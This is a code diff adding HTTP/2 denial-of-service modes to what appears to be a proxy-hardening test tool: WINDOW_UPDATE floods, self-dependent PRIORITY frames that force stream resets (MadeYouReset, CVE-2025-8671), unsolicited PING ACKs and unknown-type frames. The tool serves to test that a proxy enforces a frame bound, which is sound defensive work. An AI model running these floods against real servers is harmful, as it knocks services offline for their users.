@@ -11,6 +11,12 @@ Attacks:
     ping           PING frames, never an ACK
     settings       empty SETTINGS frames
     empty-data     one request to /echo, then DATA frames with no payload and no END_STREAM
+    window-update  WINDOW_UPDATE frames (increment 1) on the connection, no data asked for
+    self-priority  requests to /echo whose body never comes, each followed by a PRIORITY frame
+                   making its stream depend on itself, which the server must reset
+                   (MadeYouReset, CVE-2025-8671)
+    ping-ack       PING frames with the ACK flag, never asked for
+    unknown        frames of an unknown type (0xfa), 8 bytes each
 
 The attack is measured against `--bound`, the most units (reset pairs, frames) the proxy may take
 before it closes the connection: below the bound, units go out in batches of `--batch`, with a
@@ -142,6 +148,15 @@ class Attacker:
         return HeadersFrame(stream_id, data=block, flags=flags).serialize()
 
 
+def raw_frame(kind, flags, stream_id, payload):
+    """A frame as bytes, for what hyperframe will not build (unknown types, zero increments)."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload
+
+
+def window_update(stream_id, increment):
+    return raw_frame(0x8, 0, stream_id, struct.pack(">I", increment))
+
+
 def run(attacker, units, bound, batch, step_wait, settle):
     """Sends `units(i)` for i = 0, 1, ... in batches while under `bound`, looking for the proxy's
     answer for `step_wait` seconds after each batch; at the bound, waits `settle` seconds. After
@@ -220,6 +235,32 @@ def main():
         )
     elif attack == "settings":
         sent = run(attacker, lambda i: SettingsFrame(0).serialize(), args.bound, args.batch, args.step_wait, args.settle)
+    elif attack == "window-update":
+        sent = run(
+            attacker, lambda i: window_update(0, 1), args.bound, args.batch, args.step_wait, args.settle
+        )
+    elif attack == "self-priority":
+
+        def unit(i):
+            stream_id = 2 * i + 1
+            return attacker.request_headers(
+                stream_id, path="/echo", method="POST", end_stream=False
+            ) + raw_frame(0x2, 0, stream_id, struct.pack(">IB", stream_id, 16))
+
+        sent = run(attacker, unit, args.bound, args.batch, args.step_wait, args.settle)
+    elif attack == "ping-ack":
+        sent = run(
+            attacker,
+            lambda i: PingFrame(0, flags=["ACK"], opaque_data=struct.pack(">Q", i)).serialize(),
+            args.bound,
+            args.batch,
+            args.step_wait,
+            args.settle,
+        )
+    elif attack == "unknown":
+        sent = run(
+            attacker, lambda i: raw_frame(0xFA, 0, 0, b"\0" * 8), args.bound, args.batch, args.step_wait, args.settle
+        )
     elif attack == "empty-data":
         try:
             attacker.send(attacker.request_headers(1, path="/echo", method="POST", end_stream=False))
